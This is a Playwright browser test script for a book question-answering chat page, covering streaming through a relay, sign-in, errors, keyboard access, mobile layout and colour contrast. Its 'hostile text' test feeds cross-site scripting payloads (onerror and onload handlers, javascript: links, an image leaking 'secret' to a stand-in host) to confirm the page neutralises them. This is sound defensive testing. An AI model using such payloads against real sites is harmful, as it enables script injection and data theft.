// Drives the reader's page in a real browser against a running server that knows its own manual:
//
//     node page.mjs http://127.0.0.1:3000 [screenshot-dir]
//
// Prints one line per check and exits with 1 if one failed. CHROMIUM names the browser; else the first
// Chromium or Chrome on PATH is taken. Besides the server itself it uses a relay in front of it, below a
// path prefix: the relay can hold a stream back, cut it to pieces or answer in the server's place, so
// that streaming and failures are shown by cause and never by the clock.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import path from 'node:path';
import { chromium } from 'playwright-core';

const [base, shots] = process.argv.slice(2);
if (!base) {
  console.error('usage: node page.mjs http://127.0.0.1:PORT [screenshot-dir]');
  process.exit(2);
}
if (shots) fs.mkdirSync(shots, { recursive: true });

const QUESTION = 'How do I ingest a book?';
const FOLLOW_UP = 'Which kinds of files can it read?';
const account = { email: `page-${Date.now()}@example.org`, password: 'correct horse battery' };

function findBrowser() {
  if (process.env.CHROMIUM) return process.env.CHROMIUM;
  const names = ['chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable'];
  const found = process.env.PATH.split(path.delimiter).flatMap((dir) => names.map((name) => path.join(dir, name))).find((it) => fs.existsSync(it));
  assert(found, 'no Chromium found: install one, or name it in CHROMIUM');
  return found;
}

// ---- The relay ----------------------------------------------------------------------------------

const PREFIX = '/a/shelf/';

/** Serves `base` below PREFIX. `next`, if set, answers one question in its place. */
async function startRelay() {
  const relay = { next: null, seen: [] };
  const server = http.createServer(async (request, response) => {
    const chunks = [];
    for await (const chunk of request) chunks.push(chunk);
    const body = chunks.length ? Buffer.concat(chunks) : undefined;
    if (!request.url.startsWith(PREFIX)) return void response.writeHead(404).end();
    const { host, origin, referer, connection, 'content-length': _, ...headers } = request.headers;
    const upstream = () => fetch(new URL(request.url.slice(PREFIX.length), `${base.replace(/\/$/, '')}/`), { method: request.method, headers, body });
    try {
      if (request.url.endsWith('/chat/stream')) {
        relay.seen.push({ token: headers.authorization, ...JSON.parse(body) });
        const play = relay.next;
        relay.next = null;
        if (play) return await play(response, upstream);
      }
      const answer = await upstream();
      response.writeHead(answer.status, Object.fromEntries([...answer.headers].filter(([name]) => !/^(content-(encoding|length)|transfer-encoding|connection)$/.test(name))));
      response.end(Buffer.from(await answer.arrayBuffer()));
    } catch (error) {
      response.destroy(error);
    }
  });
  await new Promise((listening) => server.listen(0, '127.0.0.1', listening));
  relay.url = `http://127.0.0.1:${server.address().port}${PREFIX}`;
  relay.close = () => {
    server.closeAllConnections();
    server.close();
  };
  return relay;
}

const stream = (response) => response.writeHead(200, { 'content-type': 'text/event-stream' });
const event = (it) => `data: ${JSON.stringify(it)}\n\n`;

/** Passes the real answer's first piece on and keeps the rest until `release` is called. */
function holdBack() {
  let release;
  const released = new Promise((done) => { release = done; });
  const play = async (response, upstream) => {
    const text = await (await upstream()).text();
    const first = text.indexOf('\n\n') + 2;
    stream(response).write(text.slice(0, first));
    await released;
    response.end(text.slice(first));
  };
  return { play, release };
}

/** The real answer with CRLF and comments, one to three bytes at a time: in the middle of lines and letters. */
async function cutUp(response, upstream) {
  const text = (await (await upstream()).text()).replaceAll('\n\n', '\n\n: ping\n').replaceAll('\n', '\r\n');
  const bytes = Buffer.from(text);
  stream(response);
  response.socket.setNoDelay(true);
  for (let i = 0, step = 1; i < bytes.length; i += step, step = (step % 3) + 1) {
    response.write(bytes.subarray(i, i + step));
    await new Promise(setImmediate);
  }
  response.end();
}

const events = (...list) => (response) => stream(response).end(list.map(event).join(''));
const final = (content, more = {}) => ({ content, status: 'success', message_id: 'm', sources: [], refused: false, unsupported: false, degraded: [], ...more });
const problem = (status, code, detail) => (response) => response
  .writeHead(status, { 'content-type': 'application/problem+json' })
  .end(JSON.stringify({ type: 'about:blank', title: code, status, code, detail, message: detail, request_id: 'request-17' }));

// ---- The page -----------------------------------------------------------------------------------

const browser = await chromium.launch({
  executablePath: findBrowser(),
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});
const relay = await startRelay();
const failures = [];

/** Runs a story in a browser that knows nothing of the others. */
async function story(title, options, tell) {
  const context = await browser.newContext({ viewport: { width: 1200, height: 850 }, colorScheme: 'light', ...options });
  const page = await context.newPage();
  page.setDefaultTimeout(30_000);
  const complaints = [];
  page.on('pageerror', (error) => complaints.push(String(error)));
  // The browser itself reports refused requests; those that a story provokes on purpose are no complaint.
  page.on('console', (message) => message.type() === 'error' && !/Failed to load resource/.test(message.text()) && complaints.push(message.text()));
  let step = 'open the page';
  const check = async (name, run) => {
    step = name;
    await run();
    console.log(`ok    ${title}: ${name}`);
  };
  try {
    relay.next = null;
    relay.seen = [];
    await tell({ page, context, check });
    await check('the browser has no complaint', () => assert.deepEqual(complaints, []));
  } catch (error) {
    failures.push(title);
    console.log(`FAIL  ${title}: ${step}: ${error.message}`);
    if (shots) await page.screenshot({ path: path.join(shots, `failed-${title.replace(/\W+/g, '-')}.png`) }).catch(() => {});
  }
  await context.close();
}

const shoot = (page, name) => shots && page.screenshot({ path: path.join(shots, `${name}.png`) });
const last = (page) => page.locator('.turn').last();
const answerOf = (page) => last(page).locator('.a');
const noteOf = (page) => last(page).locator('.note, .failure').allInnerTexts().then((it) => it.join('\n'));

async function ask(page, question) {
  await page.fill('#question', question);
  await page.click('#send');
}

/** Waits until the answer has ended, however it ended. */
async function ended(page) {
  await page.waitForFunction(() => document.querySelector('#send').textContent === 'Ask');
}

async function askAndRead(page, question) {
  await ask(page, question);
  await ended(page);
  const text = await answerOf(page).innerText();
  assert(text.trim(), `no answer to "${question}": ${await noteOf(page)}`);
  return text;
}

/** Fills the sign-in dialog. */
async function sign(page, { email, password }, { register = false, keep = false } = {}) {
  if (!await page.locator('#sign').isVisible()) await page.click('#sign-in');
  if (register) await page.click('#sign-switch');
  await page.fill('#email', email);
  await page.fill('#password', password);
  await page.setChecked('#keep', keep);
  await page.click('#sign-go');
}

const signedIn = (page) => page.locator('#log-out').waitFor({ state: 'visible' });

/** The words of a text as plain letters and digits, Markdown's link targets left out. */
const words = (text) => text.replace(/\]\([^)]*\)/g, ']').toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? [];

/** The page that opened must have the quote's words, and after its anchor, if the address has one. */
async function assertQuoted(opened, quote) {
  const text = await opened.evaluate(() => {
    const name = decodeURIComponent(location.hash.slice(1));
    const anchor = name && document.getElementById(name);
    if (name && !anchor) return null;
    for (const cell of document.querySelectorAll('td, th')) cell.append(' '); // cells end words
    const range = document.createRange();
    range.selectNodeContents(document.body);
    if (anchor) range.setStartBefore(anchor);
    return range.toString();
  });
  assert(text !== null, `${opened.url()} has no element for its anchor`);
  const there = words(text).join(' ');
  const sought = words(quote.replace(/…$/, ''));
  const run = sought.slice(0, 6).join(' ');
  assert(sought.length && there.includes(run), `${opened.url()} does not contain "${run}"`);
  const found = sought.filter((word) => there.includes(word)).length;
  assert(found >= 0.8 * sought.length, `only ${found} of the quote's ${sought.length} words are on ${opened.url()}`);
}

// ---- The stories --------------------------------------------------------------------------------

await story('guest', {}, async ({ page, context, check }) => {
  let sent;
  page.on('request', (request) => { if (request.url().endsWith('/chat/stream')) sent = request.postDataJSON(); });
  await page.goto(base);
  await check('the page opens with the question box focused', async () => {
    assert.equal(await page.title(), 'Ask the book');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'question');
    await shoot(page, 'welcome');
  });
  await check(`"${QUESTION}" is answered with sources`, async () => {
    await askAndRead(page, QUESTION);
    assert(await last(page).locator('.sources a.title').count() > 0, `no source link; notes: ${await noteOf(page)}`);
    await shoot(page, 'desktop-light');
  });
  await check('the answer is announced once, whole', async () => {
    const announced = words(await page.locator('#live').innerText());
    for (const word of words(await answerOf(page).innerText()).filter((it) => /\p{L}/u.test(it)).slice(0, 10)) assert(announced.includes(word), `"${word}" was not announced`);
  });
  await check('a mark in the text leads to its source', async () => {
    await answerOf(page).locator('a.cite').first().click();
    assert(await page.evaluate(() => Boolean(document.activeElement.closest('.sources'))), 'the focus is not on a source');
  });
  await check('every source opens on its quote', async () => {
    for (const item of await last(page).locator('.sources li:has(a.title)').all()) {
      const quote = await item.locator('q').textContent();
      const [opened] = await Promise.all([context.waitForEvent('page'), item.locator('a.title').click()]);
      await opened.waitForLoadState();
      await assertQuoted(opened, quote);
      await shoot(opened, 'source');
      await opened.close();
    }
  });
  await check('the pages of the book link to each other', async () => {
    const book = await context.newPage();
    const statuses = [];
    book.on('response', (it) => statuses.push(it.status()));
    await book.goto(new URL('book/', base).href);
    await shoot(book, 'book');
    await book.locator('main a').first().click();
    await book.locator('main h1').waitFor();
    assert.match(book.url(), /\/book\/[^/]+$/);
    assert(statuses.every((it) => it < 400), `statuses ${statuses}`);
    await book.close();
  });
  await check('a follow-up brings the history along', async () => {
    await askAndRead(page, FOLLOW_UP);
    assert.deepEqual(sent.history.map((it) => it.role), ['user', 'assistant']);
    assert.equal(sent.history[0].content, QUESTION);
    assert.equal(sent.conversation_id, undefined);
  });
  await check('a reload keeps the conversation', async () => {
    const before = await page.locator('#turns').innerText();
    await page.reload();
    assert.equal(await page.locator('#turns').innerText(), before);
  });
  await check('a new conversation is empty, also after a reload', async () => {
    await page.click('#new');
    assert.equal(await page.locator('.turn').count(), 0);
    await page.reload();
    assert.equal(await page.locator('.turn').count(), 0);
  });
});

await story('account', {}, async ({ page, check }) => {
  await page.goto(relay.url);
  await check('registers and is logged in', async () => {
    await page.click('#sign-in');
    await shoot(page, 'sign-in');
    await sign(page, account, { register: true });
    await signedIn(page);
    assert.equal(await page.locator('#who').innerText(), account.email);
  });
  await check('asks with the token, then within the same conversation', async () => {
    await askAndRead(page, QUESTION);
    await askAndRead(page, FOLLOW_UP);
    const [first, second] = relay.seen;
    assert.match(first.token, /^Bearer \S+/);
    assert.equal(first.conversation_id, undefined);
    assert(second.conversation_id, 'the follow-up named no conversation');
    assert.equal(second.history, undefined);
  });
  await check('a reload keeps the conversation and the sign-in', async () => {
    const before = await page.locator('#turns').innerText();
    await page.reload();
    assert.equal(await page.locator('#turns').innerText(), before);
    await askAndRead(page, QUESTION);
    assert.equal(relay.seen[2].conversation_id, relay.seen[1].conversation_id);
  });
  await check('a token that has run out: sign in again, the question is kept, and so is the conversation', async () => {
    relay.next = problem(401, 'unauthorized', 'Sign in first: this needs a valid token.');
    const turns = await page.locator('.turn').count();
    await ask(page, 'A question to keep');
    await page.locator('#sign').waitFor({ state: 'visible' });
    assert.match(await page.locator('#sign-why').innerText(), /run out/);
    assert.equal(await page.inputValue('#question'), 'A question to keep');
    assert.equal(await page.inputValue('#email'), account.email);
    assert.equal(await page.locator('.turn').count(), turns);
    await sign(page, account);
    await page.locator('#sign').waitFor({ state: 'hidden' });
    await page.click('#send');
    await ended(page);
    assert.equal(relay.seen.at(-1).conversation_id, relay.seen[1].conversation_id);
  });
  await check('logging out leaves nothing behind', async () => {
    await page.click('#log-out');
    assert.equal(await page.locator('.turn').count(), 0);
    assert.equal(await page.evaluate(() => sessionStorage.length + localStorage.length), 0);
    await page.reload();
    assert(await page.locator('#sign-in').isVisible());
    assert.equal(await page.locator('.turn').count(), 0);
  });
  await check('a wrong password and a taken email are told in the dialog', async () => {
    await sign(page, { ...account, password: 'wrong horse' });
    await page.locator('#sign-error:not(:empty)').waitFor();
    assert.match(await page.locator('#sign-error').innerText(), /wrong/i);
    await sign(page, account, { register: true });
    await page.locator('#sign-error', { hasText: /already/ }).waitFor();
  });
  await check('signing in for good outlives the tab', async () => {
    await sign(page, account, { keep: true });
    await signedIn(page);
    await askAndRead(page, QUESTION);
    const other = await page.context().newPage();
    await other.goto(relay.url);
    assert.equal(await other.locator('#who').textContent(), account.email);
    assert.equal(await other.locator('.turn').count(), 1);
    await page.click('#log-out'); // and logging out in one tab logs out the other
    await other.locator('#sign-in').waitFor({ state: 'visible' });
    assert.equal(await other.evaluate(() => sessionStorage.length + localStorage.length), 0);
    await other.close();
  });
});

await story('streaming', {}, async ({ page, check }) => {
  await page.goto(relay.url);
  const whole = await askAndRead(page, QUESTION);
  let held = holdBack();
  const begin = async () => {
    held = holdBack();
    relay.next = held.play;
    await ask(page, QUESTION);
    await page.waitForFunction(() => document.querySelector('.turn:last-child .a').textContent.trim());
  };
  await check('text is on the screen while the rest has not been sent', async () => {
    await begin();
    assert.equal(await page.locator('#send').innerText(), 'Stop');
    held.release();
    await ended(page);
    assert.equal(await answerOf(page).innerText(), whole);
  });
  await check('Stop keeps what there was and says so', async () => {
    await begin();
    const partial = await answerOf(page).innerText();
    await page.click('#send');
    await ended(page);
    held.release();
    assert.equal(await answerOf(page).innerText(), partial);
    assert.match(await noteOf(page), /Stopped here/);
  });
  await check('Escape stops, and "Try again" gets the whole answer', async () => {
    await begin();
    await page.keyboard.press('Escape');
    await ended(page);
    held.release();
    await last(page).locator('.retry').click();
    await page.waitForFunction(() => !document.querySelector('.turn:last-child .note.stopped'));
    await ended(page);
    assert.equal(await answerOf(page).innerText(), whole);
  });
  await check('a reload in the middle keeps the text', async () => {
    await begin();
    const partial = await answerOf(page).innerText();
    await page.reload();
    held.release();
    assert.equal(await answerOf(page).innerText(), partial);
    assert.match(await noteOf(page), /Stopped here/);
  });
  await check('a stream in pieces of one to three bytes reads the same', async () => {
    relay.next = cutUp;
    assert.equal(await askAndRead(page, QUESTION), whole);
    assert(await last(page).locator('.sources li').count() > 0);
  });
});

await story('trouble', {}, async ({ page, check }) => {
  await page.goto(relay.url);
  const after = async (play) => {
    relay.next = play;
    await ask(page, QUESTION);
    await ended(page);
    return noteOf(page);
  };
  await check('an unavailable server is told readably; trying again works', async () => {
    const told = await after(problem(503, 'unavailable', 'The search is unavailable.'));
    assert.match(told, /The search is unavailable\./);
    assert.match(told, /request-17/);
    await shoot(page, 'failure');
    await last(page).locator('.retry').click();
    await page.waitForFunction(() => !document.querySelector('.failure'));
    await ended(page);
    assert((await answerOf(page).innerText()).trim());
    assert.equal(await page.locator('.turn').count(), 1);
  });
  await check('an error event keeps the text before it', async () => {
    const told = await after(events({ content: 'A beginning', status: 'partial' }, { content: 'The model fell silent.', status: 'error', code: 'stalled', retryable: true }));
    assert.match(told, /The model fell silent\./);
    assert.equal(await answerOf(page).innerText(), 'A beginning');
    assert.equal(await last(page).locator('.retry').count(), 1);
  });
  await check('an error event that no retry can mend offers none', async () => {
    await after(events({ content: 'This cannot be answered.', status: 'error', code: 'filtered', retryable: false }));
    assert.equal(await last(page).locator('.retry').count(), 0);
  });
  await check('a stream that just ends, or breaks, is told', async () => {
    assert.match(await after(events({ content: 'A beginning', status: 'partial' })), /connection was lost/i);
    await page.context().setOffline(true);
    assert.match(await after(null), /cannot be reached/);
    await page.context().setOffline(false);
    assert.match(await after((response) => response.writeHead(502, { 'content-type': 'text/html' }).end('<h1>Bad gateway</h1>')), /502/);
  });
  await check('refused, unsupported, degraded and not saved are said in plain words', async () => {
    assert.match(await after(events(final('It is silent on this.', { refused: true }))), /does not answer/);
    assert.match(await after(events(final('Perhaps.', { unsupported: true }))), /No passage/);
    const told = await after(events(final('Something.', { degraded: ['llm', 'embeddings', 'qdrant', 'database'], saved: false })));
    for (const word of [/language model/, /by meaning/, /search service/, /database/, /not in your saved/]) assert.match(told, word);
    await shoot(page, 'degraded');
  });
  await check('a refused guest signs in without losing the question', async () => {
    relay.next = problem(401, 'unauthorized', 'Sign in first: this needs a valid token.');
    await ask(page, 'A question to keep');
    await page.locator('#sign').waitFor({ state: 'visible' });
    await page.keyboard.press('Escape');
    assert.equal(await page.inputValue('#question'), 'A question to keep');
  });
});

await story('hostile text', { viewport: { width: 360, height: 740 } }, async ({ page, check }) => {
  const foreign = [];
  page.on('request', (request) => { if (!request.url().startsWith(relay.url) && !request.url().startsWith('data:')) foreign.push(request.url()); });
  await page.goto(relay.url);
  const nasty = [
    '<img src=x onerror="window.ran=1"><script>window.ran=1</script>', '[a](javascript:window.ran=1) [b](java\tscript:window.ran=1) [c](data:text/html,x) [d](vbscript:x)',
    '![picture](https://elsewhere.example/?words=secret)', '```html"><img src=x onerror=window.ran=1>\n</code></pre><script>window.ran=1</script>\n```',
    '> <svg onload=window.ran=1>', '**<b onclick=window.ran=1>bold</b>** [1](javascript:window.ran=1)', `${'x'.repeat(500)} ${'['.repeat(3000)}${'*'.repeat(3000)}${'`'.repeat(999)}`,
    `| a | ${'wide '.repeat(60)} |\n|---|---|\n| 1 | 2 |`, `${'> '.repeat(300)}deep`, `${'- '.repeat(300)}deep`, '[good](book/page.md) and https://example.org/x.',
  ].join('\n\n');
  relay.next = events({ content: nasty, status: 'partial' }, final(nasty, { sources: [
    { n: 1, title: '<img src=x onerror=window.ran=1>', url: 'javascript:window.ran=1', path: 'x', quote: '<script>window.ran=1</script> [x](javascript:window.ran=1)' },
  ] }));
  await askAndRead(page, '<img src=x onerror=window.ran=1>');
  await check('nothing of it runs, loads or becomes markup', async () => {
    assert.equal(await page.evaluate(() => window.ran), undefined);
    assert.equal(await page.locator('#turns :is(img, script, svg, b, [onclick], [onload], [onerror])').count(), 0);
    assert.deepEqual(foreign, []);
  });
  await check('only http, https and relative links are links', async () => {
    const links = await page.locator('#turns a:not(.cite)').evaluateAll((all) => all.map((it) => it.href));
    assert.deepEqual(links, [`${relay.url}book/page.md`, 'https://example.org/x']);
  });
  await check('it is no wider than a phone', async () => assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360));
});

await story('keyboard', {}, async ({ page, context, check }) => {
  await page.goto(relay.url);
  await check('"/" goes to the box, Shift+Enter starts a line, Enter asks', async () => {
    await page.locator('#sign-in').focus();
    await page.keyboard.press('/');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'question');
    await page.keyboard.type('How do I ingest');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('a book?');
    assert.equal(await page.inputValue('#question'), 'How do I ingest\na book?');
    await page.keyboard.press('Enter');
    await ended(page);
    assert.equal(await page.inputValue('#question'), '');
  });
  await check('everything is reached by Tab, and the focus is seen', async () => {
    const reached = new Set();
    await page.evaluate(() => document.activeElement.blur());
    for (let i = 0; i < 60 && !reached.has('question'); i += 1) {
      await page.keyboard.press('Tab');
      const at = await page.evaluate(() => {
        const it = document.activeElement;
        if (it === document.body) return null; // between the last element and the first one
        const style = getComputedStyle(it.id === 'question' ? it.closest('.box') : it);
        return { name: it.id || it.className || it.tagName, seen: style.outlineStyle !== 'none' || style.boxShadow !== 'none' };
      });
      if (!at) continue;
      assert(at.seen, `no focus to be seen on ${at.name}`);
      reached.add(at.name);
    }
    for (const name of ['new', 'sign-in', 'cite', 'title', 'question']) assert(reached.has(name), `${name} was not reached`);
  });
  await check('a source opens with Enter', async () => {
    await last(page).locator('a.title').first().focus();
    const [opened] = await Promise.all([context.waitForEvent('page'), page.keyboard.press('Enter')]);
    await opened.close();
  });
  await check('the dialog holds the focus and Escape closes it', async () => {
    await page.locator('#sign-in').focus();
    await page.keyboard.press('Enter');
    assert.equal(await page.evaluate(() => document.activeElement.id), 'email');
    await page.keyboard.press('Escape');
    assert(!await page.locator('#sign').isVisible());
    assert.equal(await page.evaluate(() => document.activeElement.id), 'sign-in');
  });
});

await story('phone', { viewport: { width: 360, height: 740 }, hasTouch: true, isMobile: true, deviceScaleFactor: 2 }, async ({ page, check }) => {
  await page.goto(relay.url);
  await shoot(page, 'phone-welcome');
  await askAndRead(page, QUESTION);
  await check('nothing scrolls sideways', async () => assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360));
  await check('the question box stays at the bottom, everywhere on the page', async () => {
    for (const y of [0, 100_000]) {
      await page.evaluate((to) => scrollTo(0, to), y);
      const box = await page.locator('#composer').boundingBox();
      assert(Math.abs(box.y + box.height - 740) <= 1, `its lower edge is at ${box.y + box.height}`);
      await shoot(page, y ? 'phone-sources' : 'phone');
    }
  });
  await check('what is touched is large enough', async () => {
    for (const button of await page.locator('button:visible').all()) assert((await button.boundingBox()).height >= 40, await button.innerText());
  });
});

/** The contrast of two colours such as "rgb(1, 2, 3)" after WCAG 2. */
function contrast(...colours) {
  const light = colours.map((colour) => {
    const [r, g, b] = colour.match(/[\d.]+/g).map((it) => it / 255).map((it) => (it <= 0.04045 ? it / 12.92 : ((it + 0.055) / 1.055) ** 2.4));
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  }).sort((a, b) => b - a);
  return (light[0] + 0.05) / (light[1] + 0.05);
}

for (const colorScheme of ['light', 'dark']) {
  await story(colorScheme, { colorScheme, reducedMotion: 'reduce' }, async ({ page, check }) => {
    await page.goto(relay.url);
    await askAndRead(page, QUESTION);
    await shoot(page, `desktop-${colorScheme}`);
    await check('text has a contrast of at least 4.5', async () => {
      const pairs = await page.evaluate(() => [...document.querySelectorAll('h1, .q, .a p, .a code, a.cite, a.title, .sources q, .sources h3, .hints span, .quiet, .send')]
        .filter((it) => it.offsetParent && it.textContent.trim())
        .map((it) => {
          let behind = it;
          while (/, 0\)$|transparent/.test(getComputedStyle(behind).backgroundColor)) behind = behind.parentElement;
          return [it.className || it.tagName, getComputedStyle(it).color, getComputedStyle(behind).backgroundColor];
        }));
      for (const [name, ink, paper] of pairs) assert(contrast(ink, paper) >= 4.5, `${name}: ${contrast(ink, paper).toFixed(2)}`);
      assert(colorScheme === 'light' ? contrast(pairs[0][2], 'rgb(0,0,0)') > 10 : contrast(pairs[0][2], 'rgb(0,0,0)') < 2);
    });
    if (shots) {
      await page.goto(await last(page).locator('a.title').last().getAttribute('href'));
      await shoot(page, `source-${colorScheme}`);
      await page.goBack();
    }
    await check('nothing moves for who asked for that', async () => assert.equal(await page.evaluate(() => document.getAnimations().length), 0));
  });
}

relay.close();
await browser.close();
console.log(failures.length ? `\n${failures.length} failed: ${failures.join(', ')}` : '\nAll is well.');
process.exit(failures.length ? 1 : 0);
